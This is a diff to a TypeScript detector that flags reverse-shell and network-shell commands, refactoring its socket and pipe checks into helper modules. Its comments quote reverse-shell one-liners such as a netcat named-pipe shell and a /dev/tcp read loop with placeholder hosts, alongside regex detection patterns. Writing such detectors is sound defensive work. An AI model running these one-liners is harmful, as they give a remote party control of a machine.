@@ -1,6 +1,8 @@
 // Finds programs that offer a shell over the network, or hand one to somebody out there.
 import type { Command } from './command.ts';
-import { runsInput } from './downloads.ts';
+import { isConnection } from './downloads.ts';
+import { handsShell } from './inline.ts';
+import { runsInput } from './interpreters.ts';
 import { isShell } from './wrappers.ts';
 
 export interface ShellListener {
@@ -141,37 +143,25 @@ function deviceShell({ program, redirects, arguments: words }: Command): Found |
     : null;
 }
 
-// What opens a socket, and what gives it a shell, in code of Python, Perl, Ruby, PHP, Node, Lua and awk.
-const opensSocket = /\bsocket\b|fsockopen|TCPSocket|net\.(?:connect|Socket)|\/inet\/tcp\//i;
-const givesShell = /\/bin\/(?:ba|da|z)?sh\b|pty\.spawn|dup2|cmd\.exe/;
-
 /** `python -c 'import socket, pty; …'`: connects, and hands the connection a shell. */
-function shellCode({ program, arguments: words }: Command): Found | null {
-  const code = /^(?:python|perl|ruby|php|node|lua|g?awk)[\d.]*$/.test(program) ? words.join(' ') : '';
-  return opensSocket.test(code) && givesShell.test(code)
-    ? { what: 'reverse', message: `hands a shell to a remote host (${program})` }
+function shellCode(command: Command): Found | null {
+  return handsShell(command)
+    ? { what: 'reverse', message: `hands a shell to a remote host (${command.program})` }
     : null;
 }
 
-const clients: ReadonlySet<string> = new Set([...netcats, 'telnet', 'socat']);
-
-/** `sh -i < /tmp/f | nc host port > /tmp/f`, `exec 5<>/dev/tcp/host/port; sh <&5`: a shell and a connection, joined by the shell. */
+/** `sh -i < /tmp/f | nc host port > /tmp/f`, `exec 5<>/dev/tcp/host/port; while read l <&5; do $l; done`: what a remote host says is run. */
 function joinedShells(commands: readonly Command[]): ShellListener[] {
-  const connected = pipelinesOf(commands, ({ program }) => clients.has(program));
-  const reading = pipelinesOf(commands, ({ redirects }) => redirects.some(readsConnection));
-  let device = false;
+  const connected = pipelinesOf(commands, isConnection);
   return commands.flatMap((command, index): ShellListener[] => {
-    device ||= command.redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target));
-    const reads = isShell(command.program) && runsInput(command);
-    const given = connected.has(command.pipeline) || (device && command.redirects.some(readsConnection));
-    if (!reads || !(given || (device && reading.has(command.pipeline)))) return [];
-    return [{ index, what: 'reverse', message: `hands a shell to a remote host (${command.program})` }];
+    const given = isShell(command.program) && runsInput(command) && connected.has(command.pipeline);
+    if (!given && !command.runs.some(({ kind }) => kind === 'connection')) return [];
+    const by = command.wrappers.findLast(isShell) ?? 'the shell';
+    const program = isShell(command.program) ? command.program : by;
+    return [{ index, what: 'reverse', message: `hands a shell to a remote host (${program})` }];
   });
 }
 
 function pipelinesOf(commands: readonly Command[], has: (command: Command) => boolean): ReadonlySet<number> {
   return new Set(commands.filter(has).map(({ pipeline }) => pipeline));
 }
-
-const readsConnection = ({ operator, target }: Command['redirects'][number]) =>
-  operator === '<&' && /^\d+$/.test(target);
